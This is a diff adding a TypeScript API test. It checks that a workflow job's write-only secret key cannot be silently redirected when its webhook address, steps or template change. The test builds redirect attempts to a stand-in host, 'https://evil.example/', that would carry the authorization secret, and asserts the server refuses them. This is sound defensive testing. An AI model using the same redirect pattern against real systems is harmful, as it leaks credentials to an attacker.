@@ -169,6 +169,56 @@ describe("a job that is a workflow", () => {
     await served.refused(served.api.post("/workflows", { definition: shown }), 422, "input_invalid");
   });
 
+  test("sends its secret params nowhere else, whoever changes its steps, its addresses or its template", async (t) => {
+    const served = await openWorkflows(t);
+    const properties = { key: { type: "string", writeOnly: true }, url: { type: "string" } };
+    const calls = (url: string) => ({
+      name: "Calls",
+      params: { type: "object", properties },
+      steps: [
+        { name: "call", task_type: "webhook", params: { url, headers: { authorization: "${{ params.key }}" } } },
+        { name: "wait", task_type: "wait", params: { seconds: 1 } },
+      ],
+    });
+    const definition = calls("${{ params.url }}");
+    const params = { key: "open-sesame", url: "https://a.example/hook" };
+    const job = await save(served, { kind: "workflow", workflow: { definition, params } });
+    const patch = (workflow: object) => served.api.call("PATCH", `/jobs/${job.id}`, { workflow });
+    const run = (await served.api.post(`/jobs/${job.id}/runs`)).json<RunView>();
+    const rerun = (body: object) => served.api.post(`/workflows/${run.id}/rerun`, body);
+    const evil = calls("https://evil.example/");
+    const away = { url: "https://evil.example/" };
+    for (const [answer, path] of [
+      [patch({ definition: evil }), "workflow.params.key"],
+      [patch({ definition: evil, params: { ...params, key: "***" } }), "workflow.params.key"],
+      [patch({ params: { key: "***", ...away } }), "workflow.params.url"],
+      [rerun({ definition: evil }), "params.key"],
+      [rerun({ params: away }), "params.url"],
+    ] as const) {
+      const refused = await served.refused(answer, 422, "input_invalid");
+      assert.equal(refused.errors?.[0]?.path, path, refused.errors?.[0]?.message);
+    }
+    for (const answer of [
+      patch({ definition: { ...definition, steps: definition.steps.slice(0, 1) } }),
+      patch({ definition: evil, params: { key: "another", ...away } }),
+      rerun({}),
+      rerun({ params: { url: "https://a.example/other" } }),
+      rerun({ params: { key: "another", ...away } }),
+    ])
+      assert.ok((await answer).status < 300, (await answer).text);
+
+    // A job that keeps secrets stays with the version of the template that it was saved with.
+    const put = (body: object) => served.api.call("PUT", "/workflows/templates/calls", body);
+    await put(definition);
+    const templated = await save(served, { kind: "workflow", workflow: { template: "calls", params } });
+    assert.equal(templated.workflow?.template_version, 1);
+    await put(evil);
+    const renamed = await served.api.call("PATCH", `/jobs/${templated.id}`, { name: "renamed" });
+    assert.equal(renamed.json<JobView>().workflow?.template_version, 1, renamed.text);
+    const newer = served.api.call("PATCH", `/jobs/${templated.id}`, { workflow: { template_version: 2 } });
+    assert.equal((await served.refused(newer, 422, "input_invalid")).errors?.[0]?.path, "workflow.params.key");
+  });
+
   test("is deleted only without a run that is not at its end", async (t) => {
     const served = await openWorkflows(t);
     const job = await save(served, { kind: "workflow", workflow: { definition: DIAMOND } });
